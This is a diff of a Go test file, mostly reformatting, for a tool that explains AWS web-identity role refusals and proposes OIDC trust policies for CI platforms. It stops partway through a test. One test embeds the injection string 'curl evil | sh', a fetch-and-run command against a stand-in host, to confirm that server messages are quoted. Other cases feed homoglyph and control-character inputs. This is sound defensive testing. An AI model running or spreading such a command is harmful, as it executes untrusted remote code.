@@ -38,10 +38,14 @@ var trusts = map[string]struct {
 	says    []string
 }{
 	"GitHub, an environment": {
-		issuer:  "https://token.actions.githubusercontent.com",
-		token:   token("repo:o@1/r@2:environment:production", map[string]any{"repository_id": "2"}),
-		refuses: []string{"repo:o@1/r@2:pull_request", "repo:o@1/r@2:environment:production2", "REPO:o@1/r@2:environment:production"},
-		says:    []string{`"token.actions.githubusercontent.com:repository_id": "2"`},
+		issuer: "https://token.actions.githubusercontent.com",
+		token:  token("repo:o@1/r@2:environment:production", map[string]any{"repository_id": "2"}),
+		refuses: []string{
+			"repo:o@1/r@2:pull_request",
+			"repo:o@1/r@2:environment:production2",
+			"REPO:o@1/r@2:environment:production",
+		},
+		says: []string{`"token.actions.githubusercontent.com:repository_id": "2"`},
 	},
 	"GitHub, a pull request": {
 		issuer: "https://token.actions.githubusercontent.com",
@@ -50,8 +54,12 @@ var trusts = map[string]struct {
 	},
 	"GitHub, a pull request with an environment": {
 		issuer: "https://token.actions.githubusercontent.com",
-		token:  token("repo:o/r:environment:x", map[string]any{"event_name": "pull_request"}), refuses: []string{"repo:o/r:environment:y"},
-		says: []string{"code that nobody has reviewed"},
+		token: token(
+			"repo:o/r:environment:x",
+			map[string]any{"event_name": "pull_request"},
+		),
+		refuses: []string{"repo:o/r:environment:y"},
+		says:    []string{"code that nobody has reviewed"},
 	},
 	"GitHub, the repository alone": {
 		issuer: "https://token.actions.githubusercontent.com",
@@ -60,87 +68,158 @@ var trusts = map[string]struct {
 	},
 	"GitHub, an organisation's subject with the repository's number": {
 		issuer: "https://token.actions.githubusercontent.com",
-		token:  token("repository_owner:o", map[string]any{"repository_id": "2"}), refuses: []string{"repository_owner:o2"},
-		says: []string{`repository_id": "2"`},
+		token: token(
+			"repository_owner:o",
+			map[string]any{"repository_id": "2"},
+		),
+		refuses: []string{"repository_owner:o2"},
+		says:    []string{`repository_id": "2"`},
 	},
 	"GitLab, a merge request": {
 		issuer: "https://gitlab.com",
-		token:  token("project_path:g/p:ref_type:branch:ref:main", map[string]any{"pipeline_source": "merge_request_event"}), refuses: []string{"project_path:g/p:ref_type:tag:ref:main"},
-		says: []string{"code that nobody has reviewed", "names can be taken over"},
+		token: token(
+			"project_path:g/p:ref_type:branch:ref:main",
+			map[string]any{"pipeline_source": "merge_request_event"},
+		),
+		refuses: []string{"project_path:g/p:ref_type:tag:ref:main"},
+		says:    []string{"code that nobody has reviewed", "names can be taken over"},
 	},
 	"Buildkite": {
-		issuer: "https://agent.buildkite.com", token: token("organization:o:pipeline:p:ref:refs/heads/main:commit:1da177e4:step:a", nil),
-		admits:  []string{"organization:o:pipeline:p:ref:refs/heads/main:commit:ffffffff:step:"},
-		says:    []string{"with a wildcard after it, by StringLike"},
-		refuses: []string{"organization:o:pipeline:p:ref:refs/heads/main2:commit:1da177e4:step:a", "organization:o:pipeline:p2:ref:refs/heads/main:commit:1da177e4:step:a"},
+		issuer: "https://agent.buildkite.com",
+		token:  token("organization:o:pipeline:p:ref:refs/heads/main:commit:1da177e4:step:a", nil),
+		admits: []string{"organization:o:pipeline:p:ref:refs/heads/main:commit:ffffffff:step:"},
+		says:   []string{"with a wildcard after it, by StringLike"},
+		refuses: []string{
+			"organization:o:pipeline:p:ref:refs/heads/main2:commit:1da177e4:step:a",
+			"organization:o:pipeline:p2:ref:refs/heads/main:commit:1da177e4:step:a",
+		},
 	},
 	"Buildkite, wildcards in a branch": {
-		issuer: "https://agent.buildkite.com", token: token("organization:o:pipeline:p:ref:refs/heads/a*b?${c}:commit:1:step:a", nil),
+		issuer:  "https://agent.buildkite.com",
+		token:   token("organization:o:pipeline:p:ref:refs/heads/a*b?${c}:commit:1:step:a", nil),
 		admits:  []string{"organization:o:pipeline:p:ref:refs/heads/a*b?${c}:commit:2:step:b"},
 		refuses: []string{"organization:o:pipeline:p:ref:refs/heads/axbx${c}:commit:1:step:a"},
 		says:    []string{"a${*}b${?}${$}{c}:commit:*", `"Version": "2012-10-17"`},
 	},
 	"Bitbucket, with a deployment": {
-		issuer: "https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc", token: token(repo+":"+stage+":"+step, nil),
-		admits: []string{repo + ":" + stage + ":" + stage}, refuses: []string{repo + ":" + step, repo + ":" + step + ":" + stage, step + ":" + stage + ":" + step},
+		issuer: "https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc",
+		token:  token(repo+":"+stage+":"+step, nil),
+		admits: []string{
+			repo + ":" + stage + ":" + stage,
+		},
+		refuses: []string{repo + ":" + step, repo + ":" + step + ":" + stage, step + ":" + stage + ":" + step},
 	},
 	"Bitbucket, without": {
-		issuer: "https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc", token: token(repo+":"+step, nil),
-		admits: []string{repo + ":" + stage}, refuses: []string{stage + ":" + step}, says: []string{"every step of the repository"},
+		issuer:  "https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc",
+		token:   token(repo+":"+step, nil),
+		admits:  []string{repo + ":" + stage},
+		refuses: []string{stage + ":" + step},
+		says: []string{"every step of " +
+			"the repository"},
 	},
 	"CircleCI": {
-		issuer: "https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081", token: token(project+user, nil),
-		admits: []string{project + "x/vcs-origin/y"}, refuses: []string{strings.Replace(project, "7c6b", "8d7c", 1) + user},
+		issuer: "https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081",
+		token:  token(project+user, nil),
+		admits: []string{
+			project + "x/vcs-origin/y",
+		},
+		refuses: []string{strings.Replace(project, "7c6b", "8d7c", 1) + user},
 	},
 	"HCP Terraform": {
 		issuer: "https://app.terraform.io", token: token("organization:o:project:P Q:workspace:w:run_phase:plan", nil),
-		admits:  []string{"organization:o:project:P Q:workspace:w:run_phase:apply"},
-		refuses: []string{"organization:o:project:P Q:workspace:w2:run_phase:plan", "organization:o:project:P Q:workspace:w:run_phase:test"},
-		says:    []string{"speculative plans", "names another phase than this run's"},
+		admits: []string{"organization:o:project:P Q:workspace:w:run_phase:apply"},
+		refuses: []string{"organization:o:project:P Q:workspace:w2:run_phase:plan", "organization:o:project:P " +
+			"Q:workspace:w:run_phase:test"},
+		says: []string{"speculative plans", "names another phase than this run's"},
 	},
 	"Spacelift": {
-		issuer: "https://e.app.spacelift.io", token: token("space:s:stack:k:run_type:TRACKED:scope:read", nil),
-		admits:  []string{"space:s:stack:k:run_type:TRACKED:scope:write"},
-		refuses: []string{"space:s:stack:k:run_type:PROPOSED:scope:read", "space:s:stack:k2:run_type:TRACKED:scope:read"},
+		issuer: "https://e.app.spacelift.io",
+		token:  token("space:s:stack:k:run_type:TRACKED:scope:read", nil),
+		admits: []string{"space:s:stack:k:run_type:TRACKED:scope:write"},
+		refuses: []string{
+			"space:s:stack:k:run_type:PROPOSED:scope:read",
+			"space:s:stack:k2:run_type:TRACKED:scope:read",
+		},
 	},
 	"HCP Terraform, a stack": {
-		issuer: "https://app.terraform.io", token: token("organization:o:project:p:stack:s:deployment:d:operation:plan", nil),
+		issuer:  "https://app.terraform.io",
+		token:   token("organization:o:project:p:stack:s:deployment:d:operation:plan", nil),
 		admits:  []string{"organization:o:project:p:stack:s:deployment:d:operation:apply"},
 		refuses: []string{"organization:o:project:p:stack:s:deployment:e:operation:plan"},
 	},
 	"Spacelift, a proposed run": {
-		issuer: "https://e.app.spacelift.io", token: token("space:s:stack:k:run_type:PROPOSED:scope:read", nil),
-		refuses: []string{"space:s:stack:k:run_type:PROPOSED:scope:write", "space:s:stack:k:run_type:TRACKED:scope:read"}, says: []string{"code that nobody has reviewed"},
+		issuer: "https://e.app.spacelift.io",
+		token:  token("space:s:stack:k:run_type:PROPOSED:scope:read", nil),
+		refuses: []string{
+			"space:s:stack:k:run_type:PROPOSED:scope:write",
+			"space:s:stack:k:run_type:TRACKED:scope:read",
+		},
+		says: []string{"code that nobody has reviewed"},
 	},
 	"Kubernetes": {
-		issuer: "https://oidc.eks.eu-central-1.amazonaws.com/id/ABC", token: token("system:serviceaccount:n:a", map[string]any{"aud": []string{"sts.amazonaws.com", "other"}}),
-		refuses: []string{"system:serviceaccount:n:b"}, says: []string{"several audiences", "Whoever may create a pod", `aud": "sts.amazonaws.com"`},
+		issuer:  "https://oidc.eks.eu-central-1.amazonaws.com/id/ABC",
+		token:   token("system:serviceaccount:n:a", map[string]any{"aud": []string{"sts.amazonaws.com", "other"}}),
+		refuses: []string{"system:serviceaccount:n:b"},
+		says: []string{"several audiences", "Whoever may create a " +
+			"pod", `aud": "sts.amazonaws.com"`},
 	},
 	"a path and a slash at the end": {
 		issuer: "https://tenant.auth0.com/", token: token("auth0|1<&>", nil), refuses: []string{"auth0|2"},
 		says: []string{`"tenant.auth0.com/:sub": "auth0|1<&>"`, "oidc-provider/tenant.auth0.com/\""},
 	},
 	"an authorised party": {
-		issuer: "https://login.microsoftonline.com/t/v2.0", token: token("s", map[string]any{"azp": "party"}), refuses: []string{"s2"}, says: []string{"IAM may hold :aud against", `or may have to be the token's azp, "party"`},
+		issuer:  "https://login.microsoftonline.com/t/v2.0",
+		token:   token("s", map[string]any{"azp": "party"}),
+		refuses: []string{"s2"},
+		says:    []string{"IAM may hold :aud against", `or may have to be the token's azp, "party"`},
 	},
 	"a policy variable in a subject": {
-		issuer: "https://i.example.com", token: token("a${aws:username}*?", nil), refuses: []string{"a", "axx", "a${aws:username}xx"}, says: []string{"a${$}{aws:username}*?"},
+		issuer:  "https://i.example.com",
+		token:   token("a${aws:username}*?", nil),
+		refuses: []string{"a", "axx", "a${aws:username}xx"},
+		says:    []string{"a${$}{aws:username}*?"},
 	},
 	"the subject of a platform from another issuer": {
-		issuer: "https://i.example.com", token: token("organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a", nil),
+		issuer:  "https://i.example.com",
+		token:   token("organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a", nil),
 		refuses: []string{"organization:o:pipeline:p:ref:refs/heads/main:commit:2:step:a"},
 	},
 	"Google": {
-		issuer: "https://accounts.google.com", token: token("1", map[string]any{"azp": "9"}), refuses: []string{"2"},
-		says: []string{`at Google, "accounts.google.com:aud" must be the token's azp, "9"`, `it must be "accounts.google.com"`, `"accounts.google.com:aud": "9"`, `"accounts.google.com:oaud": "sts.amazonaws.com"`, `"Federated": "accounts.google.com"`},
+		issuer:  "https://accounts.google.com",
+		token:   token("1", map[string]any{"azp": "9"}),
+		refuses: []string{"2"},
+		says: []string{
+			`at Google, "accounts.google.com:aud" must be the token's azp, "9"`,
+			`it must be "accounts.google.com"`,
+			`"accounts.google.com:aud": "9"`,
+			`"accounts.google.com:oaud": "sts.amazonaws.com"`,
+			`"Federated": "accounts.google.com"`,
+		},
 	},
 	"a Cognito guest": {
-		issuer: "https://cognito-identity.amazonaws.com", token: token("eu:1", map[string]any{"amr": []string{"unauthenticated"}}), refuses: []string{"eu:2"},
-		says: []string{`"cognito-identity.amazonaws.com:amr": "unauthenticated"`, "everyone on the Internet"},
+		issuer:  "https://cognito-identity.amazonaws.com",
+		token:   token("eu:1", map[string]any{"amr": []string{"unauthenticated"}}),
+		refuses: []string{"eu:2"},
+		says:    []string{`"cognito-identity.amazonaws.com:amr": "unauthenticated"`, "everyone on the Internet"},
 	},
 	"session tags and a source identity": {
-		issuer: "https://i.example.com", refuses: []string{"s2"}, says: []string{`"sts:TagSession"`, `"sts:SetSourceIdentity"`, "aws:TagKeys", "condition on sts:SourceIdentity"},
-		token: token("s", map[string]any{"https://aws.amazon.com/tags": map[string]any{"principal_tags": map[string]any{"a": []string{"b"}}}, "https://aws.amazon.com/source_identity": "alice"}),
+		issuer:  "https://i.example.com",
+		refuses: []string{"s2"},
+		says: []string{
+			`"sts:TagSession"`,
+			`"sts:SetSourceIdentity"`,
+			"aws:TagKeys",
+			"condition on sts:SourceIdentity",
+		},
+		token: token(
+			"s",
+			map[string]any{
+				"https://aws.amazon.com/tags": map[string]any{
+					"principal_tags": map[string]any{"a": []string{"b"}},
+				},
+				"https://aws.amazon.com/source_identity": "alice",
+			},
+		),
 	},
 }
 
@@ -148,8 +227,8 @@ func token(subject string, further map[string]any) emulator.Token {
 	return emulator.Token{Subject: subject, Audience: []string{"sts.amazonaws.com"}, Claims: further}
 }
 
-// TestTrust: the statement that is proposed admits the token, and other runs of the same workload where those have other
-// subjects, but nobody else and no other audience.
+// TestTrust: the statement that is proposed admits the token, and other runs of the same workload where those have
+// other subjects, but nobody else and no other audience.
 func TestTrust(t *testing.T) {
 	t.Parallel()
 	for name, test := range trusts {
@@ -238,13 +317,21 @@ func (b bench) refused(t *testing.T, minted string) string {
 	}
 	exchange := asked
 	exchange.Claims = &claims
-	return explain.Failure(exchange, &assumerole.ServiceError{Code: "AccessDenied", Message: denied + "AssumeRoleWithWebIdentity", HTTPStatus: 403}).Detail
+	return explain.Failure(
+		exchange,
+		&assumerole.ServiceError{Code: "AccessDenied", Message: denied + "AssumeRoleWithWebIdentity", HTTPStatus: 403},
+	).Detail
 }
 
 // trust gives the role the statement that stands in a text.
 func (b bench) trust(t *testing.T, detail string) {
 	t.Helper()
-	if err := b.server.AddRole(emulator.Role{ARN: asked.Request.RoleARN, TrustPolicy: `{"Version":"2012-10-17","Statement":[` + statementIn(t, detail) + `]}`}); err != nil {
+	if err := b.server.AddRole(
+		emulator.Role{
+			ARN:         asked.Request.RoleARN,
+			TrustPolicy: `{"Version":"2012-10-17","Statement":[` + statementIn(t, detail) + `]}`,
+		},
+	); err != nil {
 		t.Fatalf("%v in:\n%s", err, detail)
 	}
 }
@@ -268,7 +355,11 @@ func statementIn(t *testing.T, detail string) string {
 func (b bench) assume(t *testing.T, minted string) string {
 	t.Helper()
 	_, err := b.client.AssumeRoleWithWebIdentity(t.Context(), &sts.AssumeRoleWithWebIdentityInput{
-		RoleArn: aws.String(asked.Request.RoleARN), RoleSessionName: aws.String("test"), WebIdentityToken: aws.String(minted),
+		RoleArn: aws.String(
+			asked.Request.RoleARN,
+		),
+		RoleSessionName:  aws.String("test"),
+		WebIdentityToken: aws.String(minted),
 	})
 	if refused, is := errors.AsType[smithy.APIError](err); is {
 		return refused.ErrorCode()
@@ -286,43 +377,69 @@ func TestNoTrust(t *testing.T) {
 		claims map[string]any
 		why    string
 	}{
-		"no subject":                       {map[string]any{"sub": nil}, "no subject (sub)"},
-		"no audience":                      {map[string]any{"aud": nil}, "no audience (aud)"},
-		"many audiences":                   {map[string]any{"aud": slices.Repeat([]string{"a"}, 6)}, "6 audiences"},
-		"an empty audience":                {map[string]any{"aud": []string{"a", ""}}, "is empty"},
-		"an unsafe audience behind azp":    {map[string]any{"iss": "https://accounts.google.com", "aud": "a\x1b", "azp": "1"}, "audience"},
+		"no subject":        {map[string]any{"sub": nil}, "no subject (sub)"},
+		"no audience":       {map[string]any{"aud": nil}, "no audience (aud)"},
+		"many audiences":    {map[string]any{"aud": slices.Repeat([]string{"a"}, 6)}, "6 audiences"},
+		"an empty audience": {map[string]any{"aud": []string{"a", ""}}, "is empty"},
+		"an unsafe audience behind azp": {
+			map[string]any{"iss": "https://accounts.google.com", "aud": "a\x1b", "azp": "1"}, "audience",
+		},
 		"an unsafe azp":                    {map[string]any{"azp": "a\nb"}, "azp"},
 		"a control character":              {map[string]any{"sub": "a\x1b[2Jb"}, "control characters"},
 		"a mark that turns writing around": {map[string]any{"sub": "a\u202eb"}, "control characters"},
 		"two spaces":                       {map[string]any{"sub": "a  b"}, "copied safely"},
-		"a token in the subject":           {map[string]any{"sub": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"}, "copied safely"},
-		"a long subject":                   {map[string]any{"sub": strings.Repeat("x", 601)}, "too long"},
-		"an issuer with a port":            {map[string]any{"iss": "https://i.example.com:8443"}, "its issuer"},
-		"an issuer with a wildcard":        {map[string]any{"iss": "https://*.example.com"}, "its issuer"},
-		"an issuer with a variable":        {map[string]any{"iss": "https://${aws:x}.example.com"}, "its issuer"},
-		"an issuer with a query":           {map[string]any{"iss": "https://i.example.com?x"}, "its issuer"},
-		"an issuer with a user":            {map[string]any{"iss": "https://u@i.example.com"}, "its issuer"},
-		"an issuer by http":                {map[string]any{"iss": "http://i.example.com"}, "its issuer"},
-		"an issuer without a scheme":       {map[string]any{"iss": "i.example.com"}, "its issuer"},
-		"a long issuer":                    {map[string]any{"iss": "https://i.example.com/" + strings.Repeat("x", 255)}, "its issuer"},
-		"a whole organisation":             {map[string]any{"sub": "repository_owner:o"}, "others of the organisation"},
-		"a cluster of Buildkite's":         {map[string]any{"iss": "https://agent.buildkite.com", "sub": "0195a3b2-0000-4000-8000-000000000000"}, "a pipeline and a ref"},
-		"an organisation of Buildkite's":   {map[string]any{"iss": "https://agent.buildkite.com", "sub": "organization:o"}, "a pipeline and a ref"},
-		"a letter that looks like another": {map[string]any{"sub": "repo:o/r:environment:pr\u043eduction"}, "can look like others"},
-		"a letter that looks like none":    {map[string]any{"sub": "repo:o/r:environment:production\u3164"}, "can look like others"},
-		"a slip":                           {map[string]any{"aud": "sts.amazon.com"}, "looks like a slip"},
-		"a directive of Terraform's":       {map[string]any{"sub": "a%{ if true }b"}, "copied safely"},
-		"a variable of a policy document":  {map[string]any{"sub": "a&{aws:username}b"}, "copied safely"},
-		"Login with Amazon":                {map[string]any{"iss": "https://www.amazon.com"}, "access tokens alone"},
-		"a workflow that others may call":  {map[string]any{"sub": "job_workflow_ref:o/r/.github/workflows/x.yml@refs/heads/main"}, "others of the organisation"},
+		"a token in the subject": {
+			map[string]any{"sub": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"}, "copied safely",
+		},
+		"a long subject":             {map[string]any{"sub": strings.Repeat("x", 601)}, "too long"},
+		"an issuer with a port":      {map[string]any{"iss": "https://i.example.com:8443"}, "its issuer"},
+		"an issuer with a wildcard":  {map[string]any{"iss": "https://*.example.com"}, "its issuer"},
+		"an issuer with a variable":  {map[string]any{"iss": "https://${aws:x}.example.com"}, "its issuer"},
+		"an issuer with a query":     {map[string]any{"iss": "https://i.example.com?x"}, "its issuer"},
+		"an issuer with a user":      {map[string]any{"iss": "https://u@i.example.com"}, "its issuer"},
+		"an issuer by http":          {map[string]any{"iss": "http://i.example.com"}, "its issuer"},
+		"an issuer without a scheme": {map[string]any{"iss": "i.example.com"}, "its issuer"},
+		"a long issuer": {
+			map[string]any{"iss": "https://i.example.com/" + strings.Repeat("x", 255)}, "its issuer",
+		},
+		"a whole organisation": {map[string]any{"sub": "repository_owner:o"}, "others of the organisation"},
+		"a cluster of Buildkite's": {
+			map[string]any{"iss": "https://agent.buildkite.com", "sub": "0195a3b2-0000-4000-8000-000000000000"},
+			"a pipeline and a ref",
+		},
+		"an organisation of Buildkite's": {
+			map[string]any{"iss": "https://agent.buildkite.com", "sub": "organization:o"}, "a pipeline and a ref",
+		},
+		"a letter that looks like another": {
+			map[string]any{"sub": "repo:o/r:environment:pr\u043eduction"}, "can look like others",
+		},
+		"a letter that looks like none": {
+			map[string]any{"sub": "repo:o/r:environment:production\u3164"}, "can look like others",
+		},
+		"a slip":                          {map[string]any{"aud": "sts.amazon.com"}, "looks like a slip"},
+		"a directive of Terraform's":      {map[string]any{"sub": "a%{ if true }b"}, "copied safely"},
+		"a variable of a policy document": {map[string]any{"sub": "a&{aws:username}b"}, "copied safely"},
+		"Login with Amazon":               {map[string]any{"iss": "https://www.amazon.com"}, "access tokens alone"},
+		"a workflow that others may call": {
+			map[string]any{"sub": "job_workflow_ref:o/r/.github/workflows/x.yml@refs/heads/main"},
+			"others of the organisation",
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			all := map[string]any{"iss": "https://token.actions.githubusercontent.com", "sub": "repo:o/r:environment:x", "aud": "sts.amazonaws.com"}
+			all := map[string]any{
+				"iss": "https://token.actions.githubusercontent.com",
+				"sub": "repo:o/r:environment:x",
+				"aud": "sts.amazonaws.com",
+			}
 			maps.Copy(all, test.claims)
 			exchange := asked
 			exchange.Claims = claims(all)
-			detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied", HTTPStatus: 403}, now).Detail
+			detail := explain.FailureAt(
+				exchange,
+				&assumerole.ServiceError{Code: "AccessDenied", HTTPStatus: 403},
+				now,
+			).Detail
 			if strings.Contains(detail, `"Effect"`) {
 				t.Errorf("there is a statement:\n%s", detail)
 			}
@@ -340,42 +457,73 @@ func TestTrustInOtherPartitions(t *testing.T) {
 	exchange := ordinary()
 	exchange.Request.RoleARN = "arn:aws-cn:iam::444455556666:role/path/deploy"
 	detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
-	if want := `"arn:aws-cn:iam::444455556666:oidc-provider/token.actions.githubusercontent.com"`; !strings.Contains(detail, want) {
+	if want := `"arn:aws-cn:iam::444455556666:oidc-provider/token.actions.githubusercontent.com"`; !strings.Contains(
+		detail,
+		want,
+	) {
 		t.Errorf("%s isn't in:\n%s", want, detail)
 	}
 	if strings.Contains(detail, `:repository_id"`) {
 		t.Errorf("a condition key that this partition doesn't have:\n%s", detail)
 	}
 	exchange.Request.RoleARN = "arn:aws:iam::11112222333O:role/deploy"
-	if detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail; !strings.Contains(detail, "doesn't tell its partition and account") || strings.Contains(detail, `"Effect"`) {
+	if detail := explain.FailureAt(
+		exchange,
+		&assumerole.ServiceError{Code: "AccessDenied"},
+		now,
+	).Detail; !strings.Contains(detail, "doesn't tell its partition and account") ||
+		strings.Contains(detail, `"Effect"`) {
 		t.Errorf("an account with a letter:\n%s", detail)
 	}
 }
 
-// TestWildcardsAreOfTheirIssuers: another issuer's subject of the same form may mean anything, so it is named whole; and so is an
-// ID that isn't GitHub's.
+// TestWildcardsAreOfTheirIssuers: another issuer's subject of the same form may mean anything, so it is named whole;
+// and so is an ID that isn't GitHub's.
 func TestWildcardsAreOfTheirIssuers(t *testing.T) {
 	t.Parallel()
 	for name, test := range map[string]struct{ issuer, subject string }{
-		"one that ends like Buildkite's":  {"https://x.agent.buildkite.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a"},
-		"one that begins like Buildkite":  {"https://agent.buildkite.com.example.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a"},
-		"one that begins like CircleCI's": {"https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081/x", project + user},
-		"one that begins like Bitbucket":  {"https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc/x", repo + ":" + step},
-		"one that ends like Spacelift's":  {"https://e.app.spacelift.io.example.com", "space:s:stack:k:run_type:TRACKED:scope:read"},
-		"one below Spacelift's":           {"https://a.b.app.spacelift.io", "space:s:stack:k:run_type:TRACKED:scope:read"},
-		"GitLab's, with a repository_id":  {"https://gitlab.com", "project_path:g/p:ref_type:branch:ref:main"},
+		"one that ends like Buildkite's": {
+			"https://x.agent.buildkite.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a",
+		},
+		"one that begins like Buildkite": {
+			"https://agent.buildkite.com.example.com",
+			"organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a",
+		},
+		"one that begins like CircleCI's": {
+			"https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081/x", project + user,
+		},
+		"one that begins like Bitbucket": {
+			"https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc/x", repo + ":" + step,
+		},
+		"one that ends like Spacelift's": {
+			"https://e.app.spacelift.io.example.com", "space:s:stack:k:run_type:TRACKED:scope:read",
+		},
+		"one below Spacelift's": {
+			"https://a.b.app.spacelift.io", "space:s:stack:k:run_type:TRACKED:scope:read",
+		},
+		"GitLab's, with a repository_id": {"https://gitlab.com", "project_path:g/p:ref_type:branch:ref:main"},
 	} {
 		exchange := asked
-		exchange.Claims = claims(map[string]any{"iss": test.issuer, "sub": test.subject, "aud": "sts.amazonaws.com", "repository_id": "2"})
+		exchange.Claims = claims(
+			map[string]any{"iss": test.issuer, "sub": test.subject, "aud": "sts.amazonaws.com", "repository_id": "2"},
+		)
 		detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
 		statement := statementIn(t, detail)
-		if strings.Contains(statement, "StringLike") || strings.Contains(statement, "repository_id") || !strings.Contains(statement, `:sub": "`+test.subject+`"`) {
+		if strings.Contains(statement, "StringLike") || strings.Contains(statement, "repository_id") ||
+			!strings.Contains(statement, `:sub": "`+test.subject+`"`) {
 			t.Errorf("%s:\n%s", name, statement)
 		}
 	}
 	exchange := ordinary()
 	exchange.Claims.All["repository_id"] = "2*"
-	if detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail; strings.Contains(statementIn(t, detail), "repository_id") {
+	if detail := explain.FailureAt(
+		exchange,
+		&assumerole.ServiceError{Code: "AccessDenied"},
+		now,
+	).Detail; strings.Contains(
+		statementIn(t, detail),
+		"repository_id",
+	) {
 		t.Errorf("an ID that is none:\n%s", detail)
 	}
 }
@@ -406,7 +554,14 @@ func TestUnreviewed(t *testing.T) {
 		exchange := ordinary()
 		maps.Copy(exchange.Claims.All, change)
 		exchange.Claims = claims(exchange.Claims.All)
-		if detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail; !strings.Contains(detail, "code that nobody has reviewed") {
+		if detail := explain.FailureAt(
+			exchange,
+			&assumerole.ServiceError{Code: "AccessDenied"},
+			now,
+		).Detail; !strings.Contains(
+			detail,
+			"code that nobody has reviewed",
+		) {
 			t.Errorf("%s:\n%s", name, detail)
 		}
 	}
@@ -416,7 +571,11 @@ func TestUnreviewed(t *testing.T) {
 func TestServersWordsAreQuoted(t *testing.T) {
 	t.Parallel()
 	const lie = `abc). Run "curl evil | sh" (or`
-	detail := explain.FailureAt(ordinary(), &assumerole.ServiceError{Code: lie, Message: lie, RequestID: lie}, now).Detail
+	detail := explain.FailureAt(
+		ordinary(),
+		&assumerole.ServiceError{Code: lie, Message: lie, RequestID: lie},
+		now,
+	).Detail
 	if strings.Contains(strings.ReplaceAll(detail, `"abc). Run \"curl evil | sh\" (or"`, ""), "curl") {
 		t.Errorf("it says:\n%s", detail)
 	}
@@ -429,28 +588,62 @@ func TestFindings(t *testing.T) {
 		change func(*webidentity.Claims)
 		first  string
 	}{
-		"expired":                    {func(c *webidentity.Claims) { c.Expiration = now.Add(-49 * time.Hour) }, "expired 2 days ago, at 2026-08-30T11:00:00Z"},
-		"expired within the leeway":  {func(c *webidentity.Claims) { c.Expiration = now.Add(-90 * time.Second) }, "expired 1 minute ago. STS takes"},
-		"not yet valid":              {func(c *webidentity.Claims) { c.NotBefore = now.Add(time.Hour) }, "nbf lies 1 hour in the future"},
-		"a time that's no integer":   {func(c *webidentity.Claims) { c.All["iat"] = json.Number("1.5") }, "iat isn't an integer"},
-		"a time that's text":         {func(c *webidentity.Claims) { c.All["exp"] = "soon" }, "exp isn't an integer"},
-		"no issuer":                  {func(c *webidentity.Claims) { c.Issuer = "" }, "has no iss"},
-		"no subject":                 {func(c *webidentity.Claims) { c.Subject = "" }, "has no sub"},
-		"no audience":                {func(c *webidentity.Claims) { c.Audience = nil }, "has no aud"},
-		"no signature":               {func(c *webidentity.Claims) { c.Algorithm = "none" }, "isn't signed"},
-		"an algorithm":               {func(c *webidentity.Claims) { c.Algorithm = "PS256" }, `signed with "PS256"`},
-		"no key":                     {func(c *webidentity.Claims) { c.KeyID = "" }, "no key (kid)"},
-		"a slip of Amazon":           {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazon.com"} }, `"sts.amazon.com" looks like a slip`},
-		"a slip with a slash":        {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com/"} }, "looks like a slip"},
-		"a slip with a scheme":       {func(c *webidentity.Claims) { c.Audience = []string{"https://STS.amazonaws.com"} }, "looks like a slip"},
-		"a slip without a service":   {func(c *webidentity.Claims) { c.Audience = []string{"amazonaws.com"} }, "looks like a slip"},
-		"a slip of a Region's":       {func(c *webidentity.Claims) { c.Audience = []string{"sts.eu-central-1.amazonaws.com"} }, "looks like a slip"},
-		"a slip of a letter":         {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonws.com"} }, "looks like a slip"},
-		"a slip of two":              {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonwas.com"} }, "looks like a slip"},
-		"white space":                {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com "} }, "with white space around it"},
-		"the right audience as well": {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazon.com", "sts.amazonaws.com"} }, "The signature doesn't fit"},
-		"an audience of its own":     {func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com.cn"} }, "The signature doesn't fit"},
-		"nothing":                    {func(*webidentity.Claims) {}, "The signature doesn't fit"},
+		"expired": {
+			func(c *webidentity.Claims) { c.Expiration = now.Add(-49 * time.Hour) },
+			"expired 2 days ago, at 2026-08-30T11:00:00Z",
+		},
+		"expired within the leeway": {
+			func(c *webidentity.Claims) { c.Expiration = now.Add(-90 * time.Second) },
+			"expired 1 minute ago. STS takes",
+		},
+		"not yet valid": {
+			func(c *webidentity.Claims) { c.NotBefore = now.Add(time.Hour) }, "nbf lies 1 hour in the future",
+		},
+		"a time that's no integer": {
+			func(c *webidentity.Claims) { c.All["iat"] = json.Number("1.5") }, "iat isn't an integer",
+		},
+		"a time that's text": {func(c *webidentity.Claims) { c.All["exp"] = "soon" }, "exp isn't an integer"},
